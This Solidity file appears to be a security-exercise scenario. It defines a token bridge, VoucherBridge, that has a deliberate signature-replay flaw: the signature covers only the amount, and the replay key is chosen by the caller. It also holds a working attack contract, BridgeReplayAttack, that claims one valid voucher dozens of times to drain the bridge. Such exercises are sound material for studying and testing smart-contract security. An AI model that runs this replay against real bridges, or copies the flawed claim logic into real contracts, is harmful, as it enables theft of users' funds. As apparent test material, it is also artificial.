// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Pays messages that its relayer signed; what is paid is remembered under a key that the caller chooses.
contract VoucherBridge {
    IERC20 public immutable token;
    address public immutable relayer;
    mapping(uint256 => bool) public paid;

    event Paid(address indexed to, uint256 amount, uint256 id);
    event Sent(address indexed from, uint256 amount);

    constructor(IERC20 token_, address relayer_) {
        (token, relayer) = (token_, relayer_);
    }

    function digest(uint256 amount) public pure returns (bytes32) {
        return keccak256(abi.encode("pay the bearer", amount));
    }

    function claim(uint256 amount, uint256 id, uint8 v, bytes32 r, bytes32 s) external {
        require(!paid[id], "paid");
        paid[id] = true;
        require(ecrecover(digest(amount), v, r, s) == relayer, "signature");
        token.transfer(msg.sender, amount);
        emit Paid(msg.sender, amount, id);
    }

    function send(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        emit Sent(msg.sender, amount);
    }
}

contract BridgeReplayScene is Scene {
    Token public usd;
    VoucherBridge public bridge;
    uint8 public v;
    bytes32 public r;
    bytes32 public s;
    uint256 public constant VOUCHER = 60_000e18;

    constructor(Bank b, address t, address s_) payable Scene(b, t, s_) {
        usd = _usd();
        bridge = new VoucherBridge(IERC20(address(usd)), signer);
        usd.mint(address(bridge), 2_400_000e18);
        _protect(address(bridge));
        loot0 = IERC20(address(usd));
        digest = bridge.digest(VOUCHER);
    }

    function signed(uint8 v_, bytes32 r_, bytes32 s_) external override {
        (v, r, s) = (v_, r_, s_);
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(bridge));
    }

    function menu(address, uint256 dice) external view override returns (address, uint256, bytes memory) {
        return (address(bridge), 0, abi.encodeCall(VoucherBridge.send, (_amount(dice, 100e18, 5_000e18))));
    }
}

contract BridgeReplayAttack is Attack {
    VoucherBridge private immutable bridge;
    uint8 private immutable v;
    bytes32 private immutable r;
    bytes32 private immutable s;
    uint256 private immutable amount;

    constructor(BridgeReplayScene scene) Attack(scene) {
        (bridge, v, r, s, amount) = (scene.bridge(), scene.v(), scene.r(), scene.s(), scene.VOUCHER());
    }

    /// One voucher, honestly come by, many times.
    function _act(uint256, uint256 index, uint256 count) internal override {
        for (uint256 i; i < 36 / count; i++) bridge.claim(amount, index * 100 + i, v, r, s);
    }
}
